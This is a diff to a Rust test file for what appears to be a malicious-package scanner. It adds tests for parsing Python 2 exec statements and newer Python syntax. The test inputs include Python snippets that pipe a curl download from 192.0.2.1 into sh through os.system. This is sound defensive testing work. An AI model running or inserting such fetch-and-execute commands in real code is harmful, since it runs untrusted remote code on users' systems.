@@ -1,5 +1,7 @@
-//! The Python frontend: alias resolution, folding, the parser's blind spots, the fallback.
+//! The Python frontend: alias resolution, folding, the parser's blind spots, Python 2
+//! and new syntax.
 
+use crate::common::sdist;
 use pkgwarden::archive::limits::Limits;
 use pkgwarden::lang::{analyse, FileFacts, Lang};
 
@@ -65,7 +67,7 @@ fn decoded_and_downloaded_values_carry_labels() {
 }
 
 #[test]
-fn python2_and_new_fstrings_fall_back_to_tree_sitter() {
+fn python2_and_new_fstrings_are_parsed() {
     let f = facts("import os\nprint \"hello\"\nos.system('curl http://192.0.2.1/x | sh')\n");
     assert!(f.parse_error.is_some());
     assert!(callees(&f).contains(&"os.system"), "{:?}", callees(&f));
@@ -208,4 +210,53 @@ fn a_long_literal_transformed_character_by_character_is_decoded() {
         .map(|c| c.arg_labels().has(Labels::DECODED))
         .collect();
     assert_eq!(execs, [true, false, false]);
+}
+
+#[test]
+fn a_python2_exec_statement_is_a_call_of_exec() {
+    let f = facts(
+        "import os\nprint \"start\"\nexec \"os.system('id')\"\nexec code in ns\nexec(\"x = 1\")\n",
+    );
+    assert!(f.parse_error.is_some());
+    let execs: Vec<(u32, Option<&str>)> = f
+        .calls
+        .iter()
+        .filter(|c| c.callee == "exec")
+        .map(|c| (c.line, c.args.first().and_then(|a| a.text.as_deref())))
+        .collect();
+    assert_eq!(
+        execs,
+        [(3, Some("os.system('id')")), (4, None), (5, Some("x = 1"))]
+    );
+    // The code it runs is analysed too, at the line of the exec statement.
+    let system = f.calls.iter().find(|c| c.callee == "os.system").unwrap();
+    assert_eq!(system.line, 3);
+}
+
+#[test]
+fn a_main_block_is_its_own_scope_in_a_file_with_modern_syntax() {
+    let f = facts("import os\ntype Pair[T] = tuple[T, T]\ndef first[T](p: Pair[T]) -> T:\n    return p[0]\nlabel = f\"{', '.join(os.listdir(\"x\"))}\"\nmatch label:\n    case \"a\":\n        pass\ntry:\n    pass\nexcept* ValueError:\n    pass\nif __name__ == \"__main__\":\n    os.system(f\"{\"echo\"} hi\")\n");
+    assert_eq!(f.parse_error, None);
+    let system = f.calls.iter().find(|c| c.callee == "os.system").unwrap();
+    assert!(!system.on_load && system.on_main, "{system:?}");
+    assert_eq!(system.args[0].text.as_deref(), Some("echo hi"));
+    let listdir = f.calls.iter().find(|c| c.callee == "os.listdir").unwrap();
+    assert!(listdir.on_load, "{listdir:?}");
+}
+
+/// The issue: one Python 3.12 f-string added to an `__init__.py` sent the file to the
+/// fallback parser, whose lowering had drifted (no `__main__` scope), and flipped the
+/// package from clean to malicious. The f-string changes nothing now.
+#[test]
+fn a_pep_701_fstring_in_init_does_not_change_the_findings() {
+    let init = "import os\n\ndef main():\n    os.system('curl -fsSL http://192.0.2.1/x | sh')\n\nif __name__ == '__main__':\n    main()\n";
+    let with_fstring = format!("{init}GREETING = f'{{', '.join(['a', 'b'])}}'\n");
+    let findings = |init: &str| {
+        let r = sdist(&[("demo/__init__.py", init)]);
+        let found: Vec<(&str, u32)> = r.findings.iter().map(|f| (f.rule, f.line)).collect();
+        (r.verdict, format!("{found:?}"))
+    };
+    let plain = findings(init);
+    assert_eq!(findings(&with_fstring), plain);
+    assert_ne!(plain.0, pkgwarden::verdict::Verdict::Malicious, "{plain:?}");
 }
